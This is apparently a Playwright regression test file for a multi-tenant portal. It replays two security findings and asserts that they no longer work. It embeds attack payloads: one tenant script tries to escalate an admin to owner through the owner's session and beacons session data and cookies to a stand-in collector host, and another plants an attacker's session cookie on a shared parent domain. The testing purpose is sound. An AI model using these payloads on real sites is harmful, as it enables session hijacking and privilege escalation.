import { expect, test, type Browser, type BrowserContext, type Page } from "@playwright/test";
import { e2eServer, KRAMERICA, SHARED_PARENT, VANDELAY } from "./fixture";
import { signInToDashboard } from "./support/sign-in";
import { setWidgetScript } from "./support/widget-server";

/**
 * Issue 10, findings 1 and 2, replayed in Chromium over https (the TLS proxy of global setup): Vandelay's
 * own custom script, on its verified custom domain, attacks its owner and a sibling tenant's visitors.
 * Both specs store Vandelay's script on the widget server, so they run one after the other.
 */
// Each replay signs in, loads both origins and several contexts: three times the default timeout.
test.describe.configure({ mode: "serial", timeout: 90_000 });

const { httpsPort, widgetPort } = e2eServer();
const workspace = `https://${VANDELAY.slug}.localhost:${httpsPort}`;
const vandelayPortal = `https://${VANDELAY.customDomain}:${httpsPort}`;
const kramericaPortal = `https://${KRAMERICA.customDomain}:${httpsPort}`;
const SESSION = "__Host-next-auth.session-token";

interface AttackReport {
  patch: { status?: number; body?: string; error?: string };
  dashboard: { status?: number; type?: string; error?: string };
  dashboardFollowed: { status?: number; body?: string; error?: string };
  crossOrigin: { status?: number; error?: string };
  session: string;
  cookies: string;
}

/** The admin's script: make the admin owner through the owner's session, read the dashboard, report in the DOM. */
function escalationScript(adminId: string): string {
  return `(async () => {
  const report = {};
  const body = JSON.stringify({ role: "owner" });
  const attempt = async (key, run) => { try { report[key] = await run(); } catch (error) { report[key] = { error: String(error) }; } };
  await attempt("patch", async () => { const r = await fetch("/api/v1/members/${adminId}", { method: "PATCH", credentials: "include", headers: { "content-type": "application/json" }, body }); return { status: r.status, body: await r.text() }; });
  await attempt("dashboard", async () => { const r = await fetch("/dashboard", { credentials: "include", redirect: "manual" }); return { status: r.status, type: r.type }; });
  await attempt("dashboardFollowed", async () => { const r = await fetch("/dashboard", { credentials: "include" }); return { status: r.status, body: await r.text() }; });
  await attempt("crossOrigin", async () => { const r = await fetch(${JSON.stringify(workspace)} + "/api/v1/members/${adminId}", { method: "PATCH", credentials: "include", headers: { "content-type": "application/json" }, body }); return { status: r.status }; });
  report.session = await fetch("/api/auth/session", { credentials: "include" }).then((r) => r.text(), (error) => String(error));
  report.cookies = document.cookie;
  new Image().src = "https://widgets.test:${widgetPort}/collect?d=" + encodeURIComponent(JSON.stringify(report));
  document.documentElement.setAttribute("data-attack", JSON.stringify(report));
})();`;
}

/** The cookie tosser: the attacker's Kramerica session, for the parent domain, under every name a session cookie has had. */
function plantingScript(sessionValue: string): string {
  const names = [SESSION, "__Secure-next-auth.session-token", "next-auth.session-token"];
  return `(() => {
  for (const name of ${JSON.stringify(names)}) document.cookie = name + "=" + ${JSON.stringify(sessionValue)} + "; Domain=${SHARED_PARENT}; Path=/; Secure; SameSite=Lax; Max-Age=3600";
  document.documentElement.setAttribute("data-planted", "done");
})();`;
}

/** Node cannot resolve *.localhost or *.test: every request goes through Chromium, from a page on that origin. */
async function adminRole(page: Page): Promise<{ id: string; role: string }> {
  await page.goto(`${workspace}/dashboard`);
  const { status, data } = await page.evaluate(async () => {
    const response = await fetch("/api/v1/members");
    return { status: response.status, data: ((await response.json()) as { data: { id: string; email: string; role: string }[] }).data };
  });
  expect(status).toBe(200);
  const admin = data.find((member) => member.email === VANDELAY.admin.email);
  expect(admin).toBeDefined();
  return { id: admin!.id, role: admin!.role };
}

async function signInOnPortal(browser: Browser, portal: string, user: { email: string; password: string }): Promise<BrowserContext> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${portal}/login?next=%2Fmy-enquiries`);
  await page.getByLabel("Email").fill(user.email);
  await page.getByLabel("Password").fill(user.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page).toHaveURL(`${portal}/my-enquiries`);
  return context;
}

test("finding 2: the tenant's script on its custom domain cannot use the owner's staff session or staff APIs", async ({ browser }) => {
  const owner = await browser.newContext();
  const page = await owner.newPage();
  await signInToDashboard(page, workspace, VANDELAY.owner);

  // The owner's session lives on the workspace host only: __Host-, Secure, Path=/, no Domain.
  const [session, ...others] = (await owner.cookies(workspace)).filter((cookie) => cookie.name.includes("session-token"));
  expect(others).toEqual([]);
  expect(session).toMatchObject({ name: SESSION, domain: `${VANDELAY.slug}.localhost`, path: "/", secure: true, httpOnly: true });
  const admin = await adminRole(page);
  expect(admin.role).toBe("admin");

  // The admin saved a script. On the workspace host — the origin of the dashboard and /api/v1, where the
  // attack of finding 2 ran — it is not even on the portal's pages any more: not in the page, not in its CSP.
  await setWidgetScript(widgetPort, VANDELAY.script, escalationScript(admin.id));
  const workspacePortal = await page.goto(`${workspace}/`);
  expect(workspacePortal?.headers()["content-security-policy"]).not.toContain("widgets.test");
  await expect(page.getByText(VANDELAY.name).first()).toBeVisible();
  await expect(page.locator('script[src*="widgets.test"]')).toHaveCount(0);

  // It runs on the custom domain's portal, where the owner now looks.
  await page.goto(`${vandelayPortal}/`);
  await expect(page.locator("html")).toHaveAttribute("data-attack", /"patch"/);
  const report = JSON.parse((await page.locator("html").getAttribute("data-attack"))!) as AttackReport;

  expect(report.patch.status).toBe(404);
  expect(JSON.parse(report.patch.body!)).toMatchObject({ error: "not_found" });
  expect(report.dashboard).toMatchObject({ type: "opaqueredirect", status: 0 });
  // Following the 308 leaves the origin: CSP's connect-src 'self' and CORS stop the read.
  expect(report.dashboardFollowed.error).toBeDefined();
  expect(report.crossOrigin.error).toBeDefined();
  expect(report.session).toBe("{}");
  expect(report.cookies).not.toContain("session-token");
  expect(JSON.stringify(report)).not.toContain(VANDELAY.owner.email);
  expect(JSON.stringify(report)).not.toContain(VANDELAY.admin.email);

  // The session was never sent there, and even copied there by hand it is no identity.
  expect((await owner.cookies(vandelayPortal)).filter((cookie) => cookie.name.includes("session-token"))).toEqual([]);
  const copied = await browser.newContext();
  await copied.addCookies([{ name: SESSION, value: session!.value, url: vandelayPortal, secure: true, httpOnly: true, sameSite: "Lax" }]);
  const copiedPage = await copied.newPage();
  await copiedPage.goto(`${vandelayPortal}/login`);
  const withCopy = await copiedPage.evaluate(async (adminId) => {
    const patch = await fetch(`/api/v1/members/${adminId}`, { method: "PATCH", headers: { "content-type": "application/json" }, body: JSON.stringify({ role: "owner" }) });
    return {
      enquiries: (await fetch("/api/portal/enquiries")).status,
      session: await (await fetch("/api/auth/session")).text(),
      patch: patch.status,
    };
  }, admin.id);
  expect(withCopy).toEqual({ enquiries: 401, session: "{}", patch: 404 });
  await copiedPage.goto(`${vandelayPortal}/my-enquiries`);
  await expect(copiedPage).toHaveURL(/\/login\?next=/);
  await copied.close();

  // Nothing changed: the admin is still an admin, and the owner is still signed in where they work.
  expect((await adminRole(page)).role).toBe("admin");
  await owner.close();
});

test("finding 1: a script on tenant A's custom domain cannot sign B's visitor in as the attacker's customer", async ({ browser }) => {
  // The attacker has a customer account at Kramerica and takes its session cookie.
  const attacker = await signInOnPortal(browser, kramericaPortal, KRAMERICA.attackersCustomer);
  const attackersSession = (await attacker.cookies(kramericaPortal)).find((cookie) => cookie.name === SESSION);
  expect(attackersSession).toMatchObject({ domain: KRAMERICA.customDomain, secure: true });
  await attacker.close();

  // A visitor opens Vandelay's portal; its script tosses the session onto the parent both sites share.
  await setWidgetScript(widgetPort, VANDELAY.script, plantingScript(attackersSession!.value));
  const visitor = await browser.newContext();
  const page = await visitor.newPage();
  await page.goto(`${vandelayPortal}/`);
  await expect(page.locator("html")).toHaveAttribute("data-planted", "done");

  // The browser refuses a __Host- cookie with a Domain; the other names do reach Kramerica...
  const tossed = await visitor.cookies(kramericaPortal);
  expect(tossed.map((cookie) => cookie.name).sort()).toEqual(["__Secure-next-auth.session-token", "next-auth.session-token"]);
  for (const cookie of tossed) expect(cookie.domain).toBe(`.${SHARED_PARENT}`);

  // ...and Kramerica, served over https, reads only its own __Host- cookie: the visitor is nobody there.
  await page.goto(`${kramericaPortal}/my-enquiries`);
  await expect(page).toHaveURL(`${kramericaPortal}/login?next=%2Fmy-enquiries`);
  expect(await page.evaluate(async () => (await fetch("/api/auth/session")).text())).toBe("{}");
  expect(await page.evaluate(async () => (await fetch("/api/portal/enquiries")).status)).toBe(401);

  // The enquiry the visitor types is theirs alone: it does not land in the attacker's account.
  await page.goto(`${kramericaPortal}/`);
  const sent = await page.evaluate(async () => {
    const properties = (await (await fetch("/api/portal/properties")).json()) as { data: { id: string }[] };
    const response = await fetch("/api/portal/enquiries", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ propertyId: properties.data[0]!.id, name: "Visitor", email: "visitor@example.test", message: "Private question from the visitor" }),
    });
    return response.status;
  });
  expect(sent).toBe(202);
  const mine = await signInOnPortal(browser, kramericaPortal, KRAMERICA.attackersCustomer);
  const minePage = mine.pages()[0]!;
  await expect(minePage.getByText(`Signed in as ${KRAMERICA.attackersCustomer.email}.`)).toBeVisible();
  // Before the fix the visitor was this customer on Kramerica, and the enquiry was listed here.
  await expect(minePage.getByText("No enquiries yet.")).toBeVisible();
  await mine.close();
  await visitor.close();
});
